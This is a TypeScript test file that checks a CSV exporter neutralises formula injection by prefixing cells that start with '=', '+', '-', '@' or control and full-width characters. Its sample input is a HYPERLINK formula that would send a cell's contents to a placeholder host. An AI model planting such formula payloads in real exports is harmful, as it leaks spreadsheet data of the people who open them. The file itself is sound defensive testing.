import { expect, it } from 'vitest'
import { csvOf, digestCsvOf } from '../../../shared/contract/csv.ts'
import type { RunRow } from '../../../shared/contract/run.ts'

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const quoted = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text)

it.each(STARTS)('leads every cell of a run that begins with %j by an apostrophe', (start) => {
  const text = `${start}HYPERLINK("https://x.invalid/"&A1)`
  const row: RunRow = {
    run: text,
    serial: text,
    target: text,
    media: text,
    mediaSha256: text,
    station: text,
    operator: text,
    state: 'failed',
    startedAt: text,
    endedAt: text,
    resumes: null,
    problem: { code: 'internal', facts: {} },
  }
  const cell = quoted(`'${text}`)
  const cells = [cell, cell, cell, cell, cell, cell, cell, 'failed', cell, cell, 'internal']
  expect(csvOf([row])).toMatch(/code\r\n/)
  expect(csvOf([row]).split('code\r\n')[1]).toBe(`${cells.join(',')}\r\n`)
})

it.each(STARTS)('leads the path and the stream of a file that begin with %j by an apostrophe', (start) => {
  const text = `${start}1+1`
  const entry = { volume: 'windows', path: text, stream: text, size: 3, sha1: 'a'.repeat(40) } as const
  const cell = quoted(`'${text}`)
  expect(digestCsvOf([entry])).toBe(`volume,path,stream,size,sha1\r\nwindows,${cell},${cell},3,${'a'.repeat(40)}\r\n`)
})

it('leaves these characters alone within a cell', () => {
  const entry = { volume: 'windows', path: '\\a=b+c-d@e', stream: '', size: 3, sha1: 'a'.repeat(40) } as const
  expect(digestCsvOf([entry])).toContain('windows,\\a=b+c-d@e,,3,')
})
